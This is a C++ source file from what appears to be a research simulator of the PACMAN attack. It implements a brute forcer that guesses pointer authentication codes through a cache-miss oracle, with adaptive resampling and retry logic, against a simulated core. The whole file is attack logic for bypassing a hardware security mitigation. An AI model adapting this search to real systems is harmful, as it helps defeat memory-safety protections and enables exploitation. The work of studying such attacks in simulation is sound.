#include "bruteforce.hh"

#include <algorithm>
#include <cmath>

#include "base/logging.hh"

namespace pacman::attack
{

void
BruteForceStats::merge(const BruteForceStats &other)
{
    addFields(*this, other);
    if (other.found)
        found = found ? std::min(*found, *other.found) : *other.found;
}

PacBruteForcer::PacBruteForcer(PacOracle &oracle, unsigned samples)
    : oracle_(oracle)
{
    policy_.samples = samples;
}

PacBruteForcer::PacBruteForcer(PacOracle &oracle,
                               const ResamplePolicy &policy)
    : oracle_(oracle), policy_(policy)
{
    PACMAN_ASSERT(policy_.samples >= 1, "need at least one sample");
}

double
PacBruteForcer::measure(uint16_t guess, BruteForceStats &stats,
                        bool *ambiguous)
{
    const unsigned ceiling =
        std::max(policy_.maxSamples, policy_.samples);
    const double thr = double(oracle_.config().missThreshold);

    SampleStat dist;
    auto take = [&](unsigned n) {
        for (unsigned i = 0; i < n; ++i)
            dist.add(double(oracle_.probeMisses(guess)));
    };
    auto is_ambiguous = [&] {
        if (std::abs(dist.median() - thr) < policy_.ambiguity)
            return true;
        return dist.count() >= 2 &&
               std::abs(dist.mean() - thr) <=
                   policy_.z * dist.stderrOfMean();
    };

    take(policy_.samples);
    while (dist.count() < ceiling && is_ambiguous()) {
        take(std::min<uint64_t>(policy_.escalateBy,
                                ceiling - dist.count()));
        ++stats.escalations;
    }

    stats.samplesTaken += dist.count();
    if (ambiguous)
        *ambiguous = is_ambiguous();
    return dist.median();
}

BruteForceStats
PacBruteForcer::search(uint16_t first, uint16_t last,
                       SampleStat *decision_stat)
{
    BruteForceStats stats;
    auto &core = oracle_.process().machine().core();
    const uint64_t queries_before = oracle_.queries();
    const uint64_t cycles_before = core.cycle();

    for (uint32_t guess = first; guess <= last; ++guess) {
        ++stats.guessesTested;
        bool ambiguous = false;
        double misses =
            measure(uint16_t(guess), stats, &ambiguous);
        // An ambiguous verdict after escalation ran dry is worth a
        // clean re-measurement: the disturbance that blurred it is
        // usually transient.
        for (unsigned r = 0;
             ambiguous && r < policy_.candidateRetries; ++r) {
            ++stats.candidateRetries;
            misses = measure(uint16_t(guess), stats, &ambiguous);
        }
        if (decision_stat)
            decision_stat->add(misses);
        if (misses >= oracle_.config().missThreshold) {
            stats.found = uint16_t(guess);
            break;
        }
    }

    stats.oracleQueries = oracle_.queries() - queries_before;
    stats.cyclesSimulated = core.cycle() - cycles_before;
    return stats;
}

const char *
PacBruteForcer::naiveBruteForceOutcome()
{
    return "first wrong guess dereferences an invalid pointer: the "
           "victim crashes, the kernel re-keys on restart, and every "
           "learned PAC is invalidated — why PA considered brute "
           "force impractical before PACMAN";
}

} // namespace pacman::attack
